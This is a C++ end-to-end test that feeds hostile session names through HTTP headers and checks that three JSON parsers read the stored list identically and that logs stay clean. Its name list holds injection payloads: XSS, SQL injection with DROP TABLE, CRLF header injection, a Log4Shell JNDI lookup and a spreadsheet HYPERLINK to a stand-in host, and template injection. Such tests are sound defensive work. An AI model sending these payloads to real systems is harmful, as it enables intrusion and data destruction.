// Names that attack whoever reads them (RELIABILITY T26), read by three parsers of JSON that know nothing of
// each other.
#include <cctype>
#include <sstream>

#include "tests/e2e/support/gateway_test.h"
#include "tests/e2e/support/process.h"

namespace agent_sessions::e2e {
namespace {

const std::vector<std::string>& hostile_names() {
    static const std::vector<std::string> kNames = {
        "<script>alert(1)</script>",
        "</script><svg onload=alert(1)>",
        "\"},{\"ref\":\"0\",\"agent\":\"root\"",
        "back\\slash \\u0000 \\",
        "=HYPERLINK(\"http://elsewhere.example\")",
        "+1+1",
        "@SUM(A1)",
        "-2+3",
        "tab\tinside",
        "\xe2\x80\xa8line\xe2\x80\xa9separators",
        "\xe2\x80\xaeright to left",
        "\xef\xbb\xbfmark",
        "\xc0\xaf overlong",
        "\xed\xa0\x80 surrogate",
        "\xf5\x80\x80\x80 beyond",
        "\xff\xfe bytes",
        "cut\xe2\x82",
        "\x01\x02\x1f\x7f controls",
        "' OR 1=1; DROP TABLE session; --",
        "%00%0d%0aSet-Cookie: x=1",
        "${jndi:ldap://elsewhere.example/}",
        "{{7*7}}",
        std::string(3000, 'x'),
        "\xf0\x9f\x92\xa9 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x9a\x80",
        "Guest",
        "null",
    };
    return kNames;
}

class HostileNames : public GatewayTest {
  protected:
    // Each name in a form that no parser gives twice: its code points.
    std::vector<std::string> read_by(const std::vector<std::string>& command) const {
        const CommandResult result = run_command(command);
        EXPECT_EQ(result.exit_code, 0) << result.output;
        std::vector<std::string> lines;
        std::istringstream text(result.output);
        for (std::string line; std::getline(text, line);) {
            lines.push_back(line);
        }
        return lines;
    }
    static std::string hexadecimal(std::string_view bytes) {
        std::string text;
        for (const unsigned char byte : bytes) {
            text += "0123456789abcdef"[byte >> 4];
            text += "0123456789abcdef"[byte & 15];
        }
        return text;
    }
};

TEST_F(HostileNames, AreTheSameTextToThreeParsersAndStayOneLineOfTheLog) {
    start();
    for (const std::string& name : hostile_names()) {
        Browser agent = browser();
        agent.send(navigation("/app"));
        HttpRequest login = navigation("/app");
        const HttpResponse begun =
            agent.send(login.with("X-Test-Login", name).with("User-Agent", name).with("X-Test-Label", name));
        EXPECT_EQ(begun.status, 200) << name;
    }
    const HttpResponse list = admin().get("sessions?limit=500");
    ASSERT_EQ(list.status, 200);
    const std::string file = server.prefix() / "list.json";
    write_file(file, list.body);
    std::vector<std::string> by_boost;
    const boost::json::value parsed = boost::json::parse(list.body);
    for (const auto& row : parsed.at("sessions").as_array()) {
        for (const char* member : {"agent", "label", "user_agent"}) {
            const auto& value = row.at(member);
            by_boost.push_back(value.is_null() ? "-" : hexadecimal(value.as_string()));
        }
    }
    EXPECT_EQ(by_boost.size(), 3 * hostile_names().size());
    EXPECT_EQ(read_by({"python3", "-c",
                       "import json,sys\n"
                       "for row in json.load(open(sys.argv[1], encoding='utf-8', newline=''))['sessions']:\n"
                       "  for member in ('agent', 'label', 'user_agent'):\n"
                       "    print('-' if row[member] is None else row[member].encode('utf-8').hex())",
                       file}),
              by_boost);
    EXPECT_EQ(
        read_by({"node", "-e",
                 "for (const row of JSON.parse(require('fs').readFileSync(process.argv[1], 'utf8')).sessions)"
                 " for (const member of ['agent', 'label', 'user_agent'])"
                 " console.log(row[member] === null ? '-' : Buffer.from(row[member]).toString('hex'))",
                 file}),
        by_boost);
    EXPECT_EQ(list.body.find('<'), std::string::npos);
    EXPECT_EQ(list.body.find("\xe2\x80\xa8"), std::string::npos);
    std::istringstream log(server.error_log());
    for (std::string line; std::getline(log, line);) {
        EXPECT_TRUE(std::isdigit(static_cast<unsigned char>(line.empty() ? 'x' : line[0]))) << line;
    }
    for (const auto& row : admin().list()) {
        EXPECT_LE(text_of(row, "label").size(), 128U);
    }
}

}  // namespace
}  // namespace agent_sessions::e2e
